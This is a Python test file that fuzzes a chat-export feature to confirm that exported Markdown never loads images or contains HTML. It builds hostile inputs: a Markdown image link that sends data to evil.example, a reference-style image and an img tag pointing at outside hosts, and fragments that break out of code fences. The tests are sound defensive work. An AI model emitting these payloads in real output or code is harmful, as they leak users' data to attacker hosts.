"""Conversations that are exported as Markdown, to be read elsewhere: nothing of them loads an image,
is HTML, or leaves its message (C8).
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from datetime import UTC, datetime
from random import Random

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from tests.attacks import SEEDS, chance
from tests.attacks.names import MARKUP, hostile
from treadle.journal.sessions import SessionInfo
from treadle.messages.message import Message, Part, TextPart, ToolCall, ToolResult
from treadle.tui.commands.export import as_markdown

AT = datetime(2026, 11, 28, tzinfo=UTC)
IMAGE = "![](http://evil.example/?data)"
AROUND = (
    "```\n",
    "````\n",
    "~~~\n",
    "```py\n",
    "``` a`b\n",
    "   ```\n",
    "    ```\n",
    "- ```\n",
    "- a\n  ```\n",
)
BETWEEN = (
    "\n",
    "\n\n",
    "> ",
    "- ",
    "1. ",
    "| a |\n|---|\n| ",
    "<div>\n",
    "[x]: <",
    "\\",
    "`",
    "``",
    "**",
    "\t",
    "<!--",
)


def text(random: Random) -> str:
    """Markdown with images and HTML, in and behind fences that parsers read differently."""
    pieces = [*MARKUP, IMAGE, "![a][x]\n\n[x]: http://evil.example/\n", "<img src=http://e/>", "x"]
    return "".join(
        random.choice([*AROUND, *BETWEEN, *pieces, IMAGE, "\n\n", hostile(random, lines=True)])
        for _ in range(random.randint(1, 14))
    )


def tokens(found: Sequence[Token]) -> Iterator[Token]:
    for token in found:
        yield token
        yield from tokens(token.children or ())


@pytest.mark.parametrize("seed", SEEDS)
def test_an_exported_conversation_loads_nothing(seed: int) -> None:
    random = chance(seed, "markdown")
    for _ in range(20):
        parts: list[Part] = [
            TextPart(text=text(random)),
            ToolCall(
                id="c", name=random.choice([IMAGE, text(random)]), arguments_json=text(random)
            ),
        ]
        result = ToolResult(call_id="c", name=text(random), content=text(random))
        messages = [
            Message(id="1", role="user", parts=(TextPart(text=text(random)),), created_at=AT),
            Message(id="2", role="assistant", parts=tuple(parts), created_at=AT),
            Message(id="3", role="tool", parts=(result,), created_at=AT),
            Message(id="4", role="assistant", parts=(TextPart(text="The end."),), created_at=AT),
        ]
        info = SessionInfo(
            id="s", title=text(random), created_at=AT, updated_at=AT, message_count=4
        )
        written = as_markdown(info, messages)
        for reader in (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table")):
            parsed = reader.parse(written)
            kinds = {token.type for token in tokens(parsed)}
            assert not kinds & {"image", "html_inline", "html_block"}, written
            assert [token.content for token in parsed][-2] == "The end.", written


def test_an_exported_answer_without_images_and_html_is_unchanged() -> None:
    said = "Use `List<int>` and `a![0]`, if a < b:\n\n```html\n<img src=x> ![](x)\n```\n\n- `<b>`"
    message = Message(id="1", role="assistant", parts=(TextPart(text=said),), created_at=AT)
    info = SessionInfo(id="s", title="x", created_at=AT, updated_at=AT, message_count=1)
    assert said in as_markdown(info, [message])
